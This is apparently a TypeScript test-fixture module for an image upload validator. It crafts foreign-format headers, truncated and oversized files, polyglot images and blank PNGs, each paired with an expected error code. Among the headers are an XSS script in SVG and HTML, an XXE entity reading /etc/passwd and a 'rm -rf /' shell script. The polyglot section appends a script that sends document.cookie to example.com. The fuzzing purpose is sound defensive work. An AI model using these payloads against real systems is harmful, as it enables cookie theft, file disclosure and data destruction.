/** Files of other kinds, of two kinds at once, and of next to nothing. */
import { join, latin1 } from '../support/pictures.ts';
import type { Random } from '../support/random.ts';
import { type Bytes, type Hostile, noise, u32 } from './bytes.ts';
import { plainPng } from './pngs.ts';

const UNKNOWN = ['unsupported_image_format'];

/** How other formats begin. */
const HEADS: Record<string, string> = {
  GIF: 'GIF89a\x40\0\x40\0\xf7\0\0',
  BMP: 'BM\x36\x10\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0',
  HEIC: '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
  AVIF: '\0\0\0\x1cftypavif\0\0\0\0avifmif1',
  video: '\0\0\0\x18ftypisom\0\0\x02\0isomiso2',
  TIFF: 'II*\0\x08\0\0\0',
  'big TIFF': 'MM\0+\0\x08\0\0',
  PDF: '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n',
  SVG: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  XML: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  HTML: '<!doctype html><img src=x onerror=alert(1)>',
  ZIP: 'PK\x03\x04\x14\0\0\0\x08\0',
  gzip: '\x1f\x8b\x08\0\0\0\0\0\0\x03',
  'an icon': '\0\0\x01\0\x01\0\x40\x40\0\0\x01\0\x20\0',
  'JPEG XL': '\xff\x0a\xfa\x0f',
  'JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n',
  Photoshop: '8BPS\0\x01\0\0\0\0\0\0\0\x03',
  ELF: '\x7fELF\x02\x01\x01\0',
  WebAssembly: '\0asm\x01\0\0\0',
  script: '#!/bin/sh\nrm -rf /\n',
  'a RIFF of sound': 'RIFF\x24\0\0\0WAVEfmt ',
  'a broken PNG signature': '\x89PNG\n\x1a\n',
};

export function craftStrangers(random: Random): Hostile[] {
  const heads = Object.entries(HEADS).flatMap(([name, head]) => [
    { name: `${name}, its head`, bytes: latin1(head), codes: UNKNOWN },
    { name: `${name}, then noise`, bytes: join(latin1(head), noise(random, 3000)), codes: UNKNOWN },
  ]);
  const short = Array.from({ length: 16 }, (_, length) => [
    {
      name: `${length} zeros`,
      bytes: new Uint8Array(length),
      codes: length ? UNKNOWN : ['empty_image'],
    },
    { name: `${length} bytes of 0xff`, bytes: new Uint8Array(length).fill(0xff) },
    { name: `${length} bytes of noise`, bytes: noise(random, length) },
  ]).flat();
  const starts = [
    '\xff\xd8',
    '\xff\xd8\xff',
    '\xff\xd8\xff\xe0',
    '\xff\xd8\xff\xd9',
    '\x89PNG\r\n\x1a\n',
    'RIFF',
    'RIFF\0\0\0\0WEBP',
  ];
  return [
    ...heads,
    ...short,
    ...starts.map((start) => ({ name: `only ${JSON.stringify(start)}`, bytes: latin1(start) })),
    ...starts.map((start) => ({
      name: `${JSON.stringify(start)}, then noise`,
      bytes: join(latin1(start), noise(random, 2000)),
    })),
    ...starts.map((start) => ({
      name: `${JSON.stringify(start)}, then zeros`,
      bytes: join(latin1(start), new Uint8Array(2000)),
    })),
    { name: 'a megabyte of zeros', bytes: new Uint8Array(2 ** 20), codes: UNKNOWN },
    {
      name: 'more than twelve megabytes',
      bytes: join([0xff, 0xd8], new Uint8Array(12 * 2 ** 20)),
      codes: ['image_file_too_large'],
    },
  ];
}

/** A good picture that is something else as well: what is behind its end is not looked at. */
export function craftPolyglots(pictures: Record<string, Bytes>): Hostile[] {
  const zip = join(
    latin1('PK\x03\x04'),
    new Uint8Array(26),
    latin1('PK\x05\x06'),
    new Uint8Array(18),
  );
  const html = latin1('<script>fetch("//example.com/"+document.cookie)</script>');
  const names = Object.keys(pictures);
  return names.flatMap((name) => {
    const bytes = pictures[name];
    const others = names.filter((other) => other !== name);
    return [
      { name: `${name} and a ZIP behind it`, bytes: join(bytes, zip) },
      { name: `${name} and HTML behind it`, bytes: join(bytes, html) },
      { name: `${name} and a megabyte behind it`, bytes: join(bytes, new Uint8Array(2 ** 20)) },
      ...others.map((other) => ({
        name: `${name} and ${other} behind it`,
        bytes: join(bytes, pictures[other]),
      })),
      { name: `GIF's head and ${name}`, bytes: join(latin1('GIF89a'), bytes), codes: UNKNOWN },
      { name: `HTML and ${name}`, bytes: join(html, bytes), codes: UNKNOWN },
      {
        name: `a byte order mark and ${name}`,
        bytes: join([0xef, 0xbb, 0xbf], bytes),
        codes: UNKNOWN,
      },
      {
        name: `${name} as base64`,
        bytes: latin1(Buffer.from(bytes).toString('base64')),
        codes: UNKNOWN,
      },
      {
        name: `${name} as UTF-8 that was Latin-1`,
        bytes: new Uint8Array(Buffer.from(Buffer.from(bytes).toString('latin1'), 'utf8')),
      },
      { name: `${name} in network order`, bytes: join(u32(bytes.length), bytes) },
    ];
  });
}

/** Correct pictures in which there is nothing to see. */
export function craftPlains(random: Random): Hostile[] {
  const faceless = ['ok', 'no_face'];
  const sides = [32, 33, 64, 640, 2048];
  const grey = (side: number) => ({ width: side, height: side, depth: 8, colour: 0 });
  return [
    { name: 'one pixel', bytes: plainPng(grey(1)), codes: ['image_dimensions_too_small'] },
    ...sides.flatMap((side) => [
      { name: `black, ${side} pixels a side`, bytes: plainPng(grey(side)), codes: faceless },
      { name: `white, ${side} pixels a side`, bytes: plainPng(grey(side), 255), codes: faceless },
      {
        name: `grey, ${side} pixels a side`,
        bytes: plainPng(grey(side), 1 + Math.floor(random() * 254)),
        codes: faceless,
      },
    ]),
    { name: 'as wide as can be', bytes: plainPng({ ...grey(32), width: 8192 }), codes: faceless },
    { name: 'as high as can be', bytes: plainPng({ ...grey(32), height: 8192 }), codes: faceless },
    {
      name: 'one column',
      bytes: plainPng({ ...grey(1), height: 60_000 }),
      codes: ['image_dimensions_too_small'],
    },
    {
      name: 'one line',
      bytes: plainPng({ ...grey(1), width: 60_000 }),
      codes: ['image_dimensions_too_small'],
    },
    {
      name: 'as many pixels as can be, 16 bits',
      bytes: plainPng({ width: 2048, height: 2048, depth: 16, colour: 6 }),
      codes: faceless,
    },
    {
      name: 'as many pixels as can be, interlaced',
      bytes: plainPng({ width: 2048, height: 2048, depth: 8, colour: 6, interlace: 1 }),
      codes: faceless,
    },
  ];
}
